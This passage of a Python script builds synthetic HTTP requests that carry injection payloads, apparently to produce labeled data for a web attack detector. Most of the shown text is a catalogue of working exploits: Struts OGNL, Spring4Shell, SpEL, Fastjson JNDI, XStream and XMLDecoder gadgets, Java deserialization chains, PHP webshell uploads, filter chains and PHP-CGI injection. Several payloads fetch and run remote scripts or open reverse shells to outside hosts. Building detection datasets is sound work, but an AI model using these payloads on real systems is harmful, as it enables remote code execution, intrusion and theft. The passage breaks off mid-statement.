            query = extra_q
    elif pl == "form":
        method = method or "POST"
        if "fields" in o:
            fields = [tuple(x) for x in o["fields"]]
        else:
            fields = [(k, fill_value(v)) for k, v in R.sample(FFILL, R.choice([0, 1, 1, 2, 3]))]
            if o.get("key"):
                fields.insert(R.randint(0, len(fields)), (KMARK, o.get("kval", "1")))
            else:
                fields.insert(R.randint(0, len(fields)), (param, MARK))
        raw = []
        fmode_other = "min" if style == "browser" else R.choice(["min", "raw"])
        for k, v in fields:
            ks = enc(p, "form", mode, plus) if k == KMARK else enc(k, "form", fmode_other, plus)
            vs = enc(p, "form", mode, plus) if v == MARK else enc(v, "form", fmode_other, plus)
            raw.append(ks + "=" + vs)
        body = "&".join(raw)
        ctype = "application/x-www-form-urlencoded"
        if style != "browser" or R.random() < 0.3:
            ctype += R.choice(["", "; charset=UTF-8", "; charset=utf-8"])
        if extra_q:
            query = extra_q
    elif pl == "multipart":
        method = method or "POST"
        mp = o.get("mp", "field")
        if "parts" in o:
            parts = [dict(x) for x in o["parts"]]
        else:
            parts = []
            for k, v in R.sample(FFILL, R.choice([0, 1, 2])):
                parts.append({"name": k, "value": fill_value(v)})
            if mp == "field":
                pt = {"name": param, "value": MARK}
            elif mp == "file":
                pt = {
                    "name": o.get("field", "file"),
                    "filename": o.get("fname", "notes.txt"),
                    "ctype": o.get("fctype", "text/plain"),
                    "value": MARK,
                }
            else:
                pt = {
                    "name": o.get("field", "file"),
                    "filename": MARK,
                    "ctype": o.get("fctype", "text/plain"),
                    "value": o.get("fcontent", "hello\n"),
                }
            parts.insert(R.randint(0, len(parts)), pt)
        for pt in parts:
            for kk in ("value", "filename"):
                if pt.get(kk) == MARK:
                    pt[kk] = p
        if any(pt.get("filename") == p for pt in parts):
            assert '"' not in p and "\r" not in p and "\n" not in p
        fparts = ("multipart", parts)
        if extra_q:
            query = extra_q
    elif pl == "header":
        method = method or "GET"
        extra_h[o["hdr"]] = p
        assert all(0x20 <= ord(c) < 0x7F or c == "\t" for c in p), p
        if "body" in o:
            ctype, body = o["body"]
        if "qs" in o:
            query = "&".join(enc(k, "query", "min") + "=" + enc(v, "query", "min") for k, v in o["qs"])
        elif extra_q:
            query = extra_q
    elif pl == "cookie":
        method = method or "GET"
        cookie_pl = o.get("ck", param) + "=" + enc(p, "cookie", mode)
        if extra_q:
            query = extra_q
        if "body" in o:
            ctype, body = o["body"]
    elif pl == "xml":
        method = method or "POST"
        if o.get("whole"):
            body = p
        else:
            tmpl = o.get("xml") or (
                '<?xml version="1.0" encoding="UTF-8"?>\n<request>\n  <id>%d</id>\n  <%s>%s</%s>\n</request>\n'
                % (R.randint(1000, 99999), param, MARK, param)
            )
            xm = o.get("xmode") or (R.choice(["std", "ref", "cdata"]) if hard else R.choice(["std", "std", "cdata"]))
            body = tmpl.replace(MARK, xesc(p, xm))
        ctype = o.get("ctype") or R.choice(
            ["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"]
        )
        nav = False
        if extra_q:
            query = extra_q
    else:
        raise ValueError(pl)

    if fparts and fparts[0] == "multipart":
        ctype = "multipart/form-data; boundary=" + "BOUNDARY"

    if "raw" in o:
        assert dec(o["raw"], "path" if pl == "path" else "query") == p, (o["raw"], p)
    if style == "browser":
        headers, client, cookies = browser_headers(host, method, ctype, nav)
    elif style == "api":
        headers, client, cookies = api_headers(host, method, ctype)
    else:
        headers, client, cookies = terse_headers(host, method, ctype)

    if fparts:
        if fparts[0] == "json":
            st = json_style(hard, client)
            if o.get("rjrep") or o.get("rj"):
                st.pop("uesc", None)
                st.pop("ascii", None)
            if o.get("jhtml"):
                st["html"] = True
            body = jdump(fparts[1], st)
            for ra, rb in o.get("rjrep", ()):
                assert ra in body, (ra, body)
                body = body.replace(ra, rb)
            if o.get("rj"):
                body = body.replace('"@type"', '"\\u0040type"').replace('"$', '"\\u0024')
        else:
            b = boundary_for(client)
            body = multipart_body(fparts[1], b)
            headers["Content-Type"] = "multipart/form-data; boundary=" + b
    for k, v in extra_h.items():
        headers[k] = v
    if cookie_pl:
        cookies = list(cookies)
        cookies.insert(R.randint(0, len(cookies)), cookie_pl)
    if cookies:
        headers["Cookie"] = "; ".join(cookies)
    for k in ("Host", "User-Agent", "Accept"):
        assert k in headers
    return {
        "method": method,
        "path": path,
        "query": query,
        "headers": headers,
        "body": body,
        "placement": pl,
        "payload": payload,
    }


def walk(v, keys, vals):
    if isinstance(v, dict):
        for k, x in v.items():
            keys.append(k)
            walk(x, keys, vals)
    elif isinstance(v, list):
        for x in v:
            walk(x, keys, vals)
    vals.append(v)


def verify(row, spec):
    p, pl, o = row["payload"], row["placement"], spec["o"]
    h = row["headers"]
    assert list(h)[:3] == ["Host", "User-Agent", "Accept"], h
    for k, v in h.items():
        assert all(0x20 <= ord(c) < 0x7F or c == "\t" for c in v), (k, v)
    if row["body"]:
        assert "Content-Type" in h
    ct = h.get("Content-Type", "")
    if pl in ("query", "query_key"):
        pairs = urllib.parse.parse_qsl(row["query"], keep_blank_values=True)
        if pl == "query":
            assert any(v == p for k, v in pairs), (p, row["query"])
        else:
            assert any(k == p for k, v in pairs), (p, row["query"])
    elif pl == "path":
        assert p in urllib.parse.unquote(row["path"]), (p, row["path"])
    elif pl in ("json", "json_key"):
        doc = json.loads(row["body"])
        keys, vals = [], []
        walk(doc, keys, vals)
        if pl == "json_key":
            assert p in keys, p
        else:
            assert any((isinstance(v, str) and v == p) or (not isinstance(v, str) and compact(v) == p) for v in vals), p
    elif pl == "form":
        pairs = urllib.parse.parse_qsl(row["body"], keep_blank_values=True)
        assert any(v == p or k == p for k, v in pairs), (p, row["body"])
    elif pl == "header":
        assert h[o["hdr"]] == p
    elif pl == "cookie":
        ok = False
        for c in h["Cookie"].split("; "):
            n, _, v = c.partition("=")
            if urllib.parse.unquote(v) == p:
                ok = True
        assert ok, (p, h["Cookie"])
    elif pl == "multipart":
        assert ct.startswith("multipart/form-data; boundary=")
        b = ct.split("boundary=", 1)[1]
        assert p in row["body"] and ("--" + b) not in p
        assert row["body"].endswith("--" + b + "--\r\n")
    elif pl == "xml":
        if o.get("whole"):
            assert row["body"] == p
        else:
            assert p in xml_texts(row["body"]), (p, row["body"])
    if ct.startswith("application/json"):
        json.loads(row["body"])


# --------------------------------------------------------------------------
# attack specifications
# --------------------------------------------------------------------------
def A(p, pl, h=0, **o):
    return {"p": p, "pl": pl, "h": bool(h), "o": o}


CTX = {}

# ---------------------------------------------------------------- java
CTX["java_injection"] = dict(
    eps=[
        "/app/search",
        "/portal/profile",
        "/api/v1/rules/evaluate",
        "/workflow/preview",
        "/struts2-showcase/index.action",
        "/api/reports/render",
        "/admin/settings",
        "/cms/page/preview",
        "/login.action",
        "/api/v2/import",
    ],
    params=["expr", "name", "message", "filter", "template", "q", "redirectUrl", "label", "condition", "value"],
)

_ser1 = base64.b64encode(
    java_ser(
        [
            "java.util.PriorityQueue",
            "org.apache.commons.beanutils.BeanComparator",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        ],
        ["touch /tmp/cb1"],
    )
).decode()
_ser3 = base64.b64encode(
    gzip.compress(java_ser(["java.util.HashMap", "java.net.URL"], ["http://kq3v9.oast.example/"]), mtime=0)
).decode()
_ser4 = java_ser(
    [
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.apache.commons.collections.functors.ConstantTransformer",
        "org.apache.commons.collections.functors.InstantiateTransformer",
    ],
    ["curl 198.51.100.14/s|sh"],
).hex()

JAVA = [
    A(
        '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec("id"))}.multipart/form-data',
        "header",
        hdr="Content-Type",
        method="POST",
        ep="/struts2-showcase/fileupload/doUpload.action",
    ),
    A(
        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf-probe")',
        "header",
        hdr="spring.cloud.function.routing-expression",
        method="POST",
        ep="/functionRouter",
        body=("text/plain", "hello"),
    ),
    A(
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "form",
        key=True,
        ep="/greeting",
        kval='%{prefix}i java.io.InputStream in = %{c}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); %{suffix}i',
    ),
    A(
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
        "query_key",
        kval=".jsp",
        ep="/app/account",
    ),
    A(
        "class.classLoader.URLs[0]",
        "form",
        key=True,
        kval="jar:http://198.51.100.23:8000/spring-exploit.jar!/",
        ep="/register.htm",
    ),
    A(
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.9:1389/Basic/Command/id","autoCommit":true}',
        "json",
        jobj=True,
        param="extra",
        ep="/api/v1/orders",
    ),
    A(
        '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.9/inj.sql\'"}]',
        "json",
        jobj=True,
        param="source",
        ep="/api/v2/import",
    ),
    A(_ser1, "cookie", ck="user_prefs", ep="/portal/home"),
    A(
        '<map>\n  <entry>\n    <jdk.nashorn.internal.objects.NativeString>\n      <flags>0</flags>\n      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">\n'
        '        <dataHandler>\n          <dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">\n'
        '            <is class="javax.crypto.CipherInputStream">\n              <cipher class="javax.crypto.NullCipher">\n'
        '                <serviceIterator class="javax.imageio.spi.FilterIterator">\n                  <iter class="java.util.ArrayList$Itr"/>\n'
        '                  <next class="java.lang.ProcessBuilder">\n                    <command><string>/bin/sh</string><string>-c</string><string>id &gt; /tmp/xs</string></command>\n'
        "                  </next>\n                </serviceIterator>\n              </cipher>\n            </is>\n          </dataSource>\n"
        "        </dataHandler>\n      </value>\n    </jdk.nashorn.internal.objects.NativeString>\n    <string>k</string>\n  </entry>\n</map>\n",
        "xml",
        whole=True,
        ep="/rest/api/orders",
        ctype="application/xml",
    ),
    A(
        '<?xml version="1.0" encoding="utf-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n<soapenv:Header>\n'
        '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n<java version="1.8.0_151" class="java.beans.XMLDecoder">\n'
        '<object class="java.lang.ProcessBuilder">\n<array class="java.lang.String" length="3">\n<void index="0"><string>/bin/bash</string></void>\n'
        '<void index="1"><string>-c</string></void>\n<void index="2"><string>wget -q http://198.51.100.44/w.sh -O- | bash</string></void>\n'
        '</array>\n<void method="start"/>\n</object>\n</java>\n</work:WorkContext>\n</soapenv:Header>\n<soapenv:Body/>\n</soapenv:Envelope>\n',
        "xml",
        whole=True,
        ep="/wls-wsat/CoordinatorPortType",
        ctype="text/xml; charset=utf-8",
    ),
    A(
        '!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://203.0.113.50:8080/yaml-payload.jar"]\n  ]]\n]\n',
        "multipart",
        mp="file",
        fname="pipeline.yml",
        fctype="application/x-yaml",
        field="config",
        ep="/api/pipelines/import",
    ),
    A('println "cat /etc/passwd".execute().text', "form", param="script", ep="/scriptText"),
    A(
        '${pageContext.request.getSession().setAttribute("x",Runtime.getRuntime().exec("id"))}',
        "query",
        param="message",
        ep="/portal/notify.jsp",
    ),
    A(
        '#{request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("whoami")}',
        "form",
        param="displayName",
        ep="/faces/profile.xhtml",
    ),
    A(
        "new java.lang.ProcessBuilder({'/bin/sh','-c','id > /tmp/spel'}).start()",
        "json",
        param="expression",
        deep=4,
        ep="/api/v1/rules/evaluate",
    ),
    A(
        '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
        "json",
        ep="/actuator/gateway/routes/new_route",
        method="POST",
        doc={
            "id": "new_route",
            "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": MARK}}],
            "uri": "http://example.com",
            "order": 0,
        },
    ),
    A("@{java.lang.Runtime.getRuntime().exec('whoami')}", "json", param="template", ep="/api/notifications/templates"),
    A("''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')", "query", param="expr", ep="/api/calc"),
    A(
        'load("nashorn:mozilla_compat.js"); importPackage(java.lang); Runtime.getRuntime().exec("id")',
        "json",
        param="condition",
        deep=2,
        ep="/api/v1/workflows",
    ),
    A(
        "jdbc:h2:mem:probe;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception{return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes());}'\\;CALL EXEC('id')",
        "json",
        param="jdbcUrl",
        ep="/api/admin/datasources",
    ),
    A(
        'java.lang.Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")',
        "multipart",
        mp="field",
        param="expression",
        ep="/workflow/preview",
    ),
    A('${@java.lang.Runtime@getRuntime().exec("touch /tmp/cfl")}', "path", pre="/", suf="/", ep="/"),
    A(
        "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/t4s')}",
        "query",
        param="search",
        ep="/api/catalog/lookup",
    ),
    A(
        '["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://198.51.100.7:1389/obj"}]',
        "json",
        jobj=True,
        param="converter",
        ep="/api/v1/settings",
    ),
    A(
        '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "rmi://203.0.113.8:1099/Obj", autoCommit: true}',
        "json",
        param="yaml",
        ep="/api/v2/config/validate",
    ),
    A(
        '["org.springframework.context.support.FileSystemXmlApplicationContext","http://203.0.113.77/beans.xml"]',
        "json",
        jobj=True,
        param="payload",
        ep="/api/events",
    ),
    A(
        "CREATE ALIAS EXEC AS CONCAT('void e(String c) throws java.io.IOException {Runtime.getRuntime().exec(c);}');CALL EXEC('curl 198.51.100.3');",
        "json",
        ep="/actuator/env",
        doc={"name": "spring.datasource.hikari.connection-test-query", "value": MARK},
    ),
    A(
        "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check',1337*1337)}.b",
        "multipart",
        mp="filename",
        field="upload",
        fctype="text/plain",
        fcontent="test\n",
        ep="/struts2-showcase/fileupload/doUpload.action",
    ),
    A(
        '<linked-hash-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n'
        '      <target class="java.lang.ProcessBuilder">\n        <command>\n          <string>curl</string>\n          <string>http://203.0.113.31/x</string>\n'
        "        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</linked-hash-set>\n",
        "xml",
        whole=True,
        ep="/api/v1/sync",
        ctype="application/xml",
    ),
    A(
        "redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
        "query_key",
        kval=None,
        ep="/login.action",
    ),
    # ---- hard
    A(
        "%{(#r=@java.lang.Class@forName('java.lang.Run'+'time')).(#m=#r.getMethod('getRu'+'ntime')).(#m.invoke(null).exec('id'))}",
        "query",
        1,
        param="redirectUrl",
        ep="/index.action",
    ),
    A(
        "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))",
        "json",
        1,
        param="sortExpression",
        ep="/api/v1/reports",
    ),
    A(
        "''.class.forName('java.lang.Runtime').getMethod('exec',''.class).invoke(''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')",
        "form",
        1,
        param="filter",
    ),
    A(
        "${''['class'].forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        "query",
        1,
        param="label",
    ),
    A(
        '${ "" . getClass ( )\n   . forName ( "java.lang.Process" + "Builder" )\n\t. getConstructors ( ) [ 0 ] }',
        "form",
        1,
        param="comment",
        ep="/cms/page/preview",
    ),
    A(
        "%25%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D",
        "query",
        1,
        param="actionName",
        ep="/showcase.action",
    ),
    A(
        "#{new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('\\u006a\\u0061\\u0076\\u0061.lang.Runtime.getRuntime().exec(\"id\")')}",
        "json",
        1,
        param="title",
        deep=3,
    ),
    A(_ser3, "json", 1, param="viewState", ep="/api/session/restore"),
    A(_ser4, "form", 1, param="state", ep="/portal/resume"),
    A(
        "<!-- sync -->\n<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy><!-- c -->\n    <interface>java.lang.Comparable</interface>\n"
        '    <handler   class = "java.beans.EventHandler" >\n      <target class="java.lang.ProcessBuilder"><command>\n'
        "        <string>b&#97;sh</string><string>-c</string><string>nc 203.0.113.5 4444 -e /bin/sh</string>\n      </command></target>\n"
        "      <action>st<!-- x -->art</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n",
        "xml",
        1,
        whole=True,
        ep="/api/v1/sync",
        ctype="text/xml",
    ),
    A(
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.66:1099/Exp","autoCommit":true}',
        "json",
        1,
        jobj=True,
        param="meta",
        rj=True,
    ),
    A(
        '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.12:1389/L","autoCommit":true}',
        "json",
        1,
        jobj=True,
        param="attributes",
    ),
    A(
        '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.71:389/Obj","autoCommit":true}}',
        "json",
        1,
        jobj=True,
        param="ext",
        deep=2,
    ),
    A("def c = \"${'i'+'d'}\"; println c.execute().text", "json", 1, param="script", ep="/api/jobs/dry-run"),
    A(
        '!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> [[!<tag:yaml.org,2002:java.net.URL> ["http://198.51.100.4/p.jar"]]]]',
        "multipart",
        1,
        mp="file",
        fname="values.yaml",
        fctype="text/yaml",
        field="file",
        ep="/api/charts/upload",
    ),
    A(
        '${Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,null).setHeader("X-R",Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("nashorn").eval("\\u006a\\u0061va.lang.Runtime.getRuntime().exec(\'id\')"))}',
        "path",
        1,
        pre="/",
        suf="/",
        ep="/",
    ),
    A(
        "('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true",
        "query_key",
        1,
        kval=None,
        ep="/user/login.action",
    ),
    A(
        'T (java.lang.Runtime)\t.getRuntime ( )\t.exec (new String[]{"sh","-c","id"})',
        "header",
        1,
        hdr="spring.cloud.function.routing-expression",
        method="POST",
        ep="/functionRouter",
        body=("text/plain", "ping"),
    ),
    A(
        '{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://198.51.100.12:1389/shiro"}',
        "json",
        1,
        param="payload",
        ep="/api/v1/webhooks/test",
    ),
    A(
        '<java class="java.beans.XMLDecoder">\n <void class="java.lang.Runtime" method="getRuntime">\n  <void method="&#101;&#x78;ec">\n'
        "   <string>touch /tmp/xd</string>\n  </void>\n </void>\n</java>\n",
        "xml",
        1,
        whole=True,
        ep="/api/legacy/bean",
        ctype="application/xml",
    ),
]

# ---------------------------------------------------------------- php
CTX["php_injection"] = dict(
    eps=[
        "/index.php",
        "/admin/tools.php",
        "/modules/export.php",
        "/api/eval",
        "/profile/avatar",
        "/include.php",
        "/blog/wp-admin/admin-ajax.php",
        "/shop/product.php",
        "/app/render.php",
        "/cgi-bin/report.php",
    ],
    params=["page", "file", "tpl", "cmd", "lang", "module", "code", "name", "action", "view"],
)


def _php_xor(word):
    pool = "!#$%()*+,-./:;<=>?@[]^_`{|}~"
    a, b = "", ""
    for ch in word:
        cands = [(x, chr(ord(ch) ^ ord(x))) for x in pool if chr(ord(ch) ^ ord(x)) in pool]
        x, y = R.choice(cands)
        a += x
        b += y
    return a, b


_xa, _xb = _php_xor("system")
_xc, _xd = _php_xor("id")
_b64php = base64.b64encode(b'system("id");').decode()
_gz = zlib.compressobj(9, zlib.DEFLATED, -15)
_gzphp = base64.b64encode(_gz.compress(b"system('cat /etc/passwd');") + _gz.flush()).decode()

PHP = [
    A(
        "<?php system($_GET['c']); ?>\n",
        "multipart",
        mp="file",
        fname="avatar.php",
        fctype="application/x-php",
        field="avatar",
        ep="/profile/avatar",
    ),
    A(
        "GIF89a;\n<?php echo shell_exec($_REQUEST['cmd']); ?>\n",
        "multipart",
        mp="file",
        fname="banner.gif.phtml",
        fctype="image/gif",
        field="image",
        ep="/admin/media/upload",
    ),
    A(
        "/index/\\think\\app/invokefunction",
        "query",
        ep="/index.php",
        qs=[("s", MARK), ("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "id")],
    ),
    A(
        "mail[#post_render][]",
        "form",
        key=True,
        ep="/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
        fields=[
            ("form_id", "user_register_form"),
            ("_drupal_ajax", "1"),
            ("mail[#type]", "markup"),
            (KMARK, "exec"),
            ("mail[#markup]", "id"),
        ],
    ),
    A(
        "echo shell_exec('id'); exit;",
        "form",
        ep="/ajax/render/widget_php",
        fields=[("routestring", "ajax/render/widget_php"), ("widgetConfig[code]", MARK)],
    ),
    A(
        "-d allow_url_include=1 -d auto_prepend_file=data://text/plain;base64,"
        + base64.b64encode(b"<?php phpinfo(); ?>").decode(),
        "query_key",
        kval=None,
        ep="/cgi-bin/php-cgi",
        plus=True,
    ),
    A(
        'passthru("cat /etc/passwd")',
        "query",
        ep="/tools/regex.php",
        qs=[("pattern", "/.*/e"), ("replace", MARK), ("subject", "x")],
    ),
    A("${@print(md5(31337))}", "query", param="name"),
    A("{${system('id')}}", "form", param="title", ep="/blog/post/save.php"),
    A(
        'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\x00*\x00handler";r:2;'
        's:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;'
        's:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
        "cookie",
        ck="cart",
        ep="/shop/cart.php",
    ),
    A(
        'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":2:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:27:"/var/www/html/public/sh.php";'
        's:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";'
        'a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:29:"<?php system($_GET[\'x\']); ?>";}}}}',
        "form",
        param="data",
        ep="/api/import.php",
    ),
    A("phar://./uploads/avatar_9931.jpg/test.txt", "query", param="file", ep="/image/resize.php"),
    A("php://filter/convert.base64-encode/resource=../config/database.php", "query", param="page"),
    A(
        "data://text/plain;base64," + base64.b64encode(b"<?php system('uname -a'); ?>").decode(),
        "query",
        param="file",
        ep="/include.php",
    ),
    A("expect://ls -la /var/www", "query", param="lang"),
    A(
        "phar://../storage/logs/laravel.log/test.txt",
        "json",
        ep="/_ignition/execute-solution",
        doc={
            "solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
            "parameters": {"variableName": "username", "viewFile": MARK},
        },
    ),
    A("');}system('id');/*", "form", param="sort", ep="/admin/tools.php"),
    A("1);system('whoami');//", "json", param="calc", ep="/api/eval"),
    A('array_map("system",array("ls -la /var/www"))', "json", param="formula", ep="/api/pricing/rules"),
    A(
        'AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file "php://input"\n',
        "multipart",
        mp="file",
        fname=".htaccess",
        fctype="text/plain",
        field="file",
        ep="/filemanager/upload.php",
    ),
    A(
        "<?= `$_GET[0]` ?>",
        "multipart",
        mp="file",
        fname="thumb.phtml",
        fctype="image/jpeg",
        field="thumbnail",
        ep="/admin/media/upload",
    ),
    A(
        "<?php file_put_contents('wp-content/uploads/cache.php', base64_decode($_POST['d'])); ?>",
        "form",
        ep="/wp-admin/theme-editor.php",
        fields=[
            ("_wpnonce", rand_hex(10)),
            ("_wp_http_referer", "/wp-admin/theme-editor.php?file=404.php&theme=twentytwentyfour"),
            ("newcontent", MARK),
            ("action", "update"),
            ("file", "404.php"),
            ("theme", "twentytwentyfour"),
        ],
    ),
    A("@eval($_POST['z']);", "form", param="code"),
    A(
        "proc_open('id',array(1=>array('pipe','w')),$p);echo stream_get_contents($p[1]);",
        "json",
        param="snippet",
        deep=2,
    ),
    A("system('uname -a');", "cookie", ck="debug_eval"),
    A("pcntl_exec('/bin/sh',['-c','id']);", "xml", param="expression", ep="/api/legacy/calc.php"),
    A(
        '<?php $s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>',
        "multipart",
        mp="file",
        fname="report.php",
        fctype="application/octet-stream",
        field="attachment",
        ep="/support/ticket/attach",
    ),
    A("php://input", "query", param="page", method="POST", body=("text/plain", "<?php system('id'); ?>")),
    A("highlight_file('/var/www/html/config.php');", "query", param="fn", ep="/debug/run.php"),
    A(
        'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
        "json",
        param="session",
        ep="/api/session/import",
    ),
    # ---- hard
    A("('sys'.'tem')('id');", "query", 1, param="tpl"),
    A("$f='sys'.'tem';$f('cat /etc/passwd');", "form", 1, param="expr"),
    A("(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))(chr(105).chr(100));", "json", 1, param="formula"),
    A("print `cat /etc/hostname`;", "query", 1, param="debug"),
    A(
        '${"_GET"}[0](${"_GET"}[1])',
        "query",
        1,
        ep="/app/render.php",
        qs=[("view", MARK), ("0", "system"), ("1", "id")],
    ),
    A('("%s"^"%s")("%s"^"%s");' % (_xa, _xb, _xc, _xd), "form", 1, param="f"),
    A('eval(base64_decode("%s"));' % _b64php, "json", 1, param="custom_code", deep=5),
    A("assert(str_rot13('%s'));" % codecs.encode('system("id")', "rot13"), "cookie", 1, ck="pref"),
    A("eval(gzinflate(base64_decode('%s')));" % _gzphp, "multipart", 1, mp="field", param="snippet"),
    A(
        '<?php $x = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $x("id"); ?>',
        "multipart",
        1,
        mp="file",
        fname="cover.php7",
        fctype="image/png",
        field="cover",
        ep="/admin/media/upload",
    ),
    A(
        '<script language="php">system("id");</script>',
        "multipart",
        1,
        mp="file",
        fname="readme.pht",
        fctype="text/plain",
        field="doc",
        ep="/docs/upload",
    ),
    A(
        "<?PhP SyStEm($_GeT['c']); ?>",
        "multipart",
        1,
        mp="file",
        fname="x.PhAr",
        fctype="application/octet-stream",
        field="file",
    ),
    A(
        "\u00add allow_url_include=1 \u00add auto_prepend_file=php://input",
        "query_key",
        1,
        kval=None,
        ep="/php-cgi/php-cgi.exe",
        method="POST",
        body=("text/plain", "<?php echo md5('cgi'); ?>"),
        plus=True,
    ),
    A(
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.CP1046.UTF32|"
        "convert.iconv.L6.UCS-2|convert.iconv.UTF-16LE.T.61-8BIT|convert.iconv.865.UCS-4LE|convert.base64-decode|convert.base64-encode|"
        "convert.iconv.UTF8.UTF7|convert.iconv.MAC.UTF16|convert.iconv.L8.UTF16|convert.base64-decode/resource=php://temp",
        "query",
        1,
        param="file",
    ),
    A("data:text/plain,<?php phpinfo();?>", "query", 1, param="inc"),
    A("PHP://FiLtEr/read=string.rot13/resource=index.php", "query", 1, param="page"),
    A(
        "compress.zlib://phar:///var/www/uploads/2026/12/a.gif/x",
        "json",
        1,
        param="image_path",
        ep="/api/media/thumbnail",
    ),
    A('O:+8:"Backdoor":1:{s:4:"code";s:10:"phpinfo();";}', "cookie", 1, ck="session_data"),
    A('C:11:"ArrayObject":45:{x:i:0;a:0:{};m:a:1:{s:1:"x";O:7:"Logger2":0:{}}}', "form", 1, param="cart"),
    A("{${eval(base64_decode($_SERVER[HTTP_X_C]))}}", "query", 1, param="name"),
]

# ---------------------------------------------------------------- generic code injection
CTX["code_injection"] = dict(
    eps=[
        "/api/calc",
        "/api/v1/transform",
        "/tools/evaluate",
        "/api/reports/formula",
        "/sandbox/run",
        "/api/v2/filters",
        "/hooks/preview",
        "/admin/console",
        "/api/widgets/render",
        "/api/automation/rules",
    ],
    params=["expr", "formula", "code", "filter", "callback", "transform", "q", "value", "rule", "script"],
)

_pyhex = b"__import__('os').system('id')".hex()
_pyb64 = base64.b64encode(
    b"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.21',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"
).decode()
_pychr = ",".join(str(ord(c)) for c in "__import__('os').popen('id').read()")
_jsb64 = base64.b64encode(b'require("child_process").execSync("id")').decode()
_jschr = ",".join(str(ord(c)) for c in "require('child_process').execSync('uname -a')")
_pickle2 = base64.b64encode(
